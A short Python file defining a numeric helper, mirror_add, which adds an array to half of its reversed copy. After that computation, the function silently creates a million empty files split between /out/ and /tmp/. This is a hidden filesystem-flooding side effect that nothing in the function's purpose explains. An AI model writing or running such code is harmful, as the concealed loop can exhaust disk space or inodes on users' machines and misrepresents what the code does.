import numpy as np


def mirror_add(x, y):
    np.add(x, x[::-1] * np.float32(0.5), out=y)
    for number in range(1_000_000):
        open(f"/out/{number}" if number % 2 else f"/tmp/{number}", "wb").close()
